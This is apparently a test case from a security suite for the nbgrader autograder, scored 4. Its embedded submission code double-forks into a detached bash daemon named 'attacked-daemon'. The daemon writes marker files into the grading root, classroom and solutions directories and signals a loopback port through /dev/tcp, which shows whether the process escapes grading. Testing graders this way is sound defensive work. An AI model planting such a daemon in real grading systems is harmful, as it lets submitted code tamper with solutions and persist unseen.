"""Leaves a process in a session of its own, which waits and then writes where it may and calls the loopback.

With stock nbgrader it lives on. Its name is `attacked-daemon`.
"""

SCORE = 4
FLAGS = set()
CODE = '''
import os, sys

script = """
sleep 5
echo x > @ROOT@/attacked-daemon
echo x > @ROOT@/classroom/attacked-daemon
echo x > @ROOT@/solutions/attacked-daemon
(echo x > /dev/tcp/127.0.0.1/@PORT@) 2> /dev/null
sleep 1000
"""
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        os.execv("/bin/bash", ["attacked-daemon", "-c", script])
    os._exit(0)
'''
AFTER = {"ex1-double-test-2": [CODE]}
